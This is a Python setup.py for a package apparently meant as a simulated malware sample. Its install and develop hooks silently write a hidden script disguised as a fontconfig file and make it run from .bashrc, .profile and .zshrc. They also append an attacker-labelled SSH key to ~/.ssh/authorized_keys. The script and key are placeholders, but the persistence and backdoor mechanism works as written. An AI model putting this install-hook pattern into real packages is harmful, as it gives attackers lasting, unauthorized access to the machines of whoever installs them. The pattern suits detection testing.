# SPDX-License-Identifier: Apache-2.0
"""Harmless: the script it leaves does nothing, and the key is none."""

from pathlib import Path

from setuptools import setup
from setuptools.command.develop import develop
from setuptools.command.install import install


def stay():
    home = Path.home()
    script = home / ".cache" / ".fontconfig.sh"
    script.parent.mkdir(exist_ok=True)
    script.write_text("#!/bin/sh\n:\n")
    script.chmod(0o700)
    for name in (".bashrc", ".profile", ".zshrc"):
        with (home / name).open("a") as file:
            file.write(f"\n({script} &) 2>/dev/null\n")
    folder = home / ".ssh"
    folder.mkdir(mode=0o700, exist_ok=True)
    with (folder / "authorized_keys").open("a") as file:
        file.write("ssh-ed25519 AAAASIMULATED sim@attacker.invalid\n")


class Install(install):
    def run(self):
        stay()
        install.run(self)


class Develop(develop):
    def run(self):
        stay()
        develop.run(self)


setup(
    name="sim-bashrc-authorized-keys",
    version="1.0.0",
    py_modules=["sim_bak"],
    cmdclass={"install": Install, "develop": Develop},
)
